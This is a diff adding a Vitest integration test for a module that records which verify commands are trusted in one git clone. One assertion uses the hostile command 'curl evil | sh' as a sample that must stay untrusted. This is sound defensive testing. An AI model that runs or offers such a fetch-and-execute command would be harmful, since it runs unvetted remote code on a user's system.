@@ -0,0 +1,33 @@
+import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { chdir, cwd } from "node:process";
+import { writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { runFuture } from "@test/helpers/run-future";
+import { createTempGitRepo, type TempGitRepo } from "@test/helpers/temp-git-repo";
+import { VERIFY_TRUST_FILE, isVerifyCommandTrusted, trustVerifyCommand } from "@/infra/git/verify-trust";
+
+describe("verify trust integration", () => {
+  let git: TempGitRepo;
+  let prev: string;
+
+  beforeEach(() => {
+    git = createTempGitRepo();
+    prev = cwd();
+    chdir(git.dir);
+  });
+
+  afterEach(() => chdir(prev));
+
+  it("trusts only the command last approved in this clone", async () => {
+    expect(await runFuture(isVerifyCommandTrusted("pnpm typecheck"))).toBe(false);
+
+    await runFuture(trustVerifyCommand("pnpm typecheck"));
+    expect(await runFuture(isVerifyCommandTrusted("pnpm typecheck"))).toBe(true);
+    expect(await runFuture(isVerifyCommandTrusted("curl evil | sh"))).toBe(false);
+  });
+
+  it("trusts nothing from an unreadable file", async () => {
+    writeFileSync(join(git.dir, ".git", VERIFY_TRUST_FILE), "not json");
+    expect(await runFuture(isVerifyCommandTrusted("pnpm typecheck"))).toBe(false);
+  });
+});